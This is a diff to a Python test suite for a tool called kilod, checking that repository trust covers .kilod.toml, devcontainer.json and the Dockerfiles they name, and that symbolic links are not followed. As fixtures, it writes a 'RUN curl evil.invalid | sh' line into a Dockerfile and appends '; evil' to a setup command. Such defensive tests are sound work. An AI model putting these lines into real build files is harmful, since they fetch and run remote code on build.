@@ -1,4 +1,5 @@
-"""Trust in a repository's .kilod.toml: widening keys apply only to content a person trusted."""
+"""Trust in a repository's sandbox files (.kilod.toml, devcontainer, the Dockerfiles they name): widening
+settings apply only to content a person trusted, hashed together."""
 
 from __future__ import annotations
 
@@ -17,7 +18,7 @@ from kilod.events import EventLog
 from kilod.git.repository import Repositories
 from kilod.repo_settings import RepoSettings
 from kilod.store import Store
-from kilod.trust import RepoTrust, read_settings_file, widening_keys
+from kilod.trust import RepoTrust, read_settings_file, sandbox_files, widening_keys
 from tests.kilod_testing import make_repo
 
 WIDE = 'network = true\ncopy = [".env"]\nsetup = ["make deps"]\n\n[[checks]]\nname = "t"\nrun = "make test"\n'
@@ -45,6 +46,15 @@ def sha(text: str) -> str:
     return hashlib.sha256(text.encode()).hexdigest()
 
 
+def set_sha(files: dict[str, str | None]) -> str:
+    """The documented hash of a set of sandbox files: each path and its length-prefixed content, in order."""
+    combined = hashlib.sha256(b"kilod-sandbox-files-v1\0")
+    for path, text in files.items():
+        combined.update(path.encode() + b"\0")
+        combined.update(b"absent\0" if text is None else b"%d\0" % len(text.encode()) + text.encode())
+    return combined.hexdigest()
+
+
 def new(repo: Path, **fields: object) -> NewCard:
     return NewCard.model_validate({"prompt": "do it", "repo": str(repo), **fields})
 
@@ -57,8 +67,8 @@ async def test_an_untrusted_file_applies_only_its_safe_keys_and_says_so(board: C
     assert card["settings"]["copy"] == [] and card["settings"]["setup"] == []
     assert [c["run"] for c in card["settings"]["checks"]] == ["make test"]  # checks are safe: applied
     source = card["settings_source"]
-    assert source["trusted"] is False and source["sha256"] == sha(WIDE)
-    assert source["ignored"] == ["setup", "copy", "network"]
+    assert source["trusted"] is False and source["sha256"] == set_sha({".kilod.toml": WIDE})
+    assert source["files"] == [".kilod.toml"] and source["ignored"] == ["setup", "copy", "network"]
     assert "not trusted" in source["note"] and f"kilod ctl trust {repo}" in source["note"]
     notes = [e.payload for e in store.events_of(card["attempts"][0]["id"]) if e.payload.get("step") == "settings"]
     assert notes and notes[0]["message"] == source["note"]
@@ -92,10 +102,11 @@ async def test_trust_needs_the_hash_of_the_content_shown(board: Cards, tmp_path:
     repo = make_repo(tmp_path / "r", {"README.md": "x\n", ".kilod.toml": WIDE})
     with pytest.raises(Invalid) as missing:
         await board.trust.trust_of(str(repo), None)
-    assert missing.value.details["content"] == WIDE and missing.value.details["current_sha256"] == sha(WIDE)
+    assert missing.value.details["content"] == WIDE
+    assert missing.value.details["current_sha256"] == set_sha({".kilod.toml": WIDE})
     with pytest.raises(Conflict) as stale:
-        await board.trust.trust_of(str(repo), sha("network = false\n"))
-    assert "changed since it was shown" in stale.value.message
+        await board.trust.trust_of(str(repo), sha(WIDE))  # the file's own hash is not the set's
+    assert "changed since they were shown" in stale.value.message
     assert (await board.trust.view_of(str(repo)))["trusted"] is False
     bare = make_repo(tmp_path / "plain")
     with pytest.raises(Conflict):
@@ -149,12 +160,113 @@ def test_settings_that_narrow_the_sandbox_need_no_trust(tmp_path: Path) -> None:
 def test_trust_survives_a_restart_of_the_store(settings: Settings, tmp_path: Path) -> None:
     repo = make_repo(tmp_path / "r", {"README.md": "x\n", ".kilod.toml": WIDE})
     store = Store(settings.db_path)
-    RepoTrust(store, Repositories()).trust(repo, sha(WIDE))
+    RepoTrust(store, Repositories()).trust(repo, set_sha({".kilod.toml": WIDE}))
     store.close()
     store = Store(settings.db_path)
     try:
         view = RepoTrust(store, Repositories()).view(repo)
         assert view["trusted"] is True and json.dumps(view)
-        assert [h["sha256"] for h in view["trusted_hashes"]] == [sha(WIDE)]
+        assert [h["sha256"] for h in view["trusted_hashes"]] == [set_sha({".kilod.toml": WIDE})]
     finally:
         store.close()
+
+
+DEVCONTAINER = ('// editors write comments\n{"build": {"dockerfile": "Dockerfile", "context": ".."},\n'
+                ' "containerEnv": {"GREETING": "hi"}, "postCreateCommand": "make deps",}\n')
+DOCKERFILE = "FROM debian:bookworm\nRUN echo built\n"
+
+
+async def test_changing_the_devcontainer_or_its_dockerfile_after_trust_untrusts_the_repository(
+        board: Cards, tmp_path: Path) -> None:
+    repo = make_repo(tmp_path / "r", {"README.md": "x\n", ".kilod.toml": 'checks = ["true"]\n',
+                                      ".devcontainer/devcontainer.json": DEVCONTAINER,
+                                      ".devcontainer/Dockerfile": DOCKERFILE})
+    view = await board.trust.view_of(str(repo))
+    assert [(f["path"], f["content"]) for f in view["files"]] == [
+        (".kilod.toml", 'checks = ["true"]\n'), (".devcontainer/devcontainer.json", DEVCONTAINER),
+        (".devcontainer/Dockerfile", DOCKERFILE)]
+    assert view["sha256"] == set_sha({f["path"]: f["content"] for f in view["files"]})
+    assert view["widening"] == [".devcontainer/devcontainer.json"] and view["trusted"] is False
+    await board.trust.trust_of(str(repo), view["sha256"])
+    card = await board.create_card(new(repo))
+    assert card["settings"]["dockerfile"] == ".devcontainer/Dockerfile" and card["settings"]["setup"] == ["make deps"]
+    assert card["settings_source"]["trusted"] is True
+    assert card["settings_source"]["files"] == [".kilod.toml", ".devcontainer/devcontainer.json",
+                                                ".devcontainer/Dockerfile"]
+
+    # an agent's merged change to the Dockerfile alone: the whole set is untrusted again
+    (repo / ".devcontainer/Dockerfile").write_text(DOCKERFILE + "RUN curl evil.invalid | sh\n")
+    card = await board.create_card(new(repo))
+    assert card["settings_source"]["trusted"] is False
+    assert card["settings"]["dockerfile"] is None and card["settings"]["setup"] == [] and card["settings"]["env"] == {}
+    assert ".devcontainer/Dockerfile" in card["settings_source"]["note"]
+    (repo / ".devcontainer/Dockerfile").write_text(DOCKERFILE)
+    assert (await board.create_card(new(repo)))["settings_source"]["trusted"] is True
+
+    # … or to devcontainer.json (a new setup command)
+    (repo / ".devcontainer/devcontainer.json").write_text(DEVCONTAINER.replace("make deps", "make deps; evil"))
+    card = await board.create_card(new(repo))
+    assert card["settings_source"]["trusted"] is False and card["settings"]["setup"] == []
+
+    # … or pointing it at another Dockerfile: that file joins the set, so the hash moves
+    (repo / ".devcontainer/devcontainer.json").write_text(DEVCONTAINER.replace('"Dockerfile"', '"Other"'))
+    (repo / ".devcontainer/Other").write_text(DOCKERFILE)
+    assert [f["path"] for f in sandbox_files(repo).files][-1] == ".devcontainer/Other"
+    assert (await board.create_card(new(repo)))["settings_source"]["trusted"] is False
+
+
+async def test_a_kilod_toml_dockerfile_is_part_of_what_is_trusted(board: Cards, tmp_path: Path) -> None:
+    repo = make_repo(tmp_path / "r", {"README.md": "x\n", ".kilod.toml": 'dockerfile = "env/Dockerfile"\n',
+                                      "env/Dockerfile": DOCKERFILE})
+    view = await board.trust.view_of(str(repo))
+    assert [f["path"] for f in view["files"]] == [".kilod.toml", "env/Dockerfile"]
+    await board.trust.trust_of(str(repo), view["sha256"])
+    assert (await board.create_card(new(repo)))["settings"]["dockerfile"] == "env/Dockerfile"
+    (repo / "env/Dockerfile").write_text(DOCKERFILE + "RUN true\n")
+    card = await board.create_card(new(repo))
+    assert card["settings"]["dockerfile"] is None and card["settings_source"]["ignored"] == ["dockerfile"]
+
+
+async def test_a_devcontainer_only_repository_applies_nothing_from_it_until_trusted(board: Cards,
+                                                                                    tmp_path: Path) -> None:
+    repo = make_repo(tmp_path / "r", {"README.md": "x\n", ".devcontainer/devcontainer.json": DEVCONTAINER,
+                                      ".devcontainer/Dockerfile": DOCKERFILE})
+    card = await board.create_card(new(repo))
+    settings, source = card["settings"], card["settings_source"]
+    assert settings["dockerfile"] is None and settings["image"] is None
+    assert settings["setup"] == [] and settings["env"] == {}
+    assert source["trusted"] is False and source["exists"] is False  # no .kilod.toml
+    assert source["files"] == [".devcontainer/devcontainer.json", ".devcontainer/Dockerfile"]
+    assert ".devcontainer/devcontainer.json" in source["ignored"]
+    assert ".devcontainer/devcontainer.json, .devcontainer/Dockerfile" in source["note"]
+    assert f"kilod ctl trust {repo}" in source["note"]
+
+    view = await board.trust.view_of(str(repo))
+    assert view["exists"] is True and view["content"] is None  # no .kilod.toml, but files to trust
+    assert [f["path"] for f in view["files"] if f["exists"]] == source["files"]
+    await board.trust.trust_of(str(repo), view["sha256"])
+    card = await board.create_card(new(repo))
+    assert card["settings"]["dockerfile"] == ".devcontainer/Dockerfile"
+    assert card["settings"]["setup"] == ["make deps"] and card["settings"]["env"] == {"GREETING": "hi"}
+    assert card["settings_source"]["trusted"] is True and card["settings_source"]["note"] is None
+
+
+def test_sandbox_files_are_read_without_following_symbolic_links(tmp_path: Path) -> None:
+    repo = make_repo(tmp_path / "r", {"README.md": "x\n", ".kilod.toml": 'dockerfile = "env/Dockerfile"\n'})
+    outside = tmp_path / "outside"
+    outside.mkdir()
+    (outside / "Dockerfile").write_text(DOCKERFILE)
+    (outside / "devcontainer.json").write_text(DEVCONTAINER)
+    (repo / "env").symlink_to(outside)               # a folder on the way is a link
+    (repo / ".devcontainer").symlink_to(outside)     # so is the devcontainer's folder
+    files = sandbox_files(repo)
+    assert [f["path"] for f in files.files] == [".kilod.toml", "env/Dockerfile"]  # the devcontainer is not read
+    dockerfile = files.files[1]
+    assert dockerfile["content"] is None and "symbolic link" in str(dockerfile["error"])
+    before = files.sha256
+    (outside / "Dockerfile").write_text(DOCKERFILE + "RUN true\n")
+    assert sandbox_files(repo).sha256 == before  # nothing behind the link was read
+    (repo / "env").unlink()
+    (repo / "env").mkdir()
+    (repo / "env/Dockerfile").write_text("# " + "x" * 300_000 + "\n")
+    assert "larger than" in str(sandbox_files(repo).files[1]["error"])
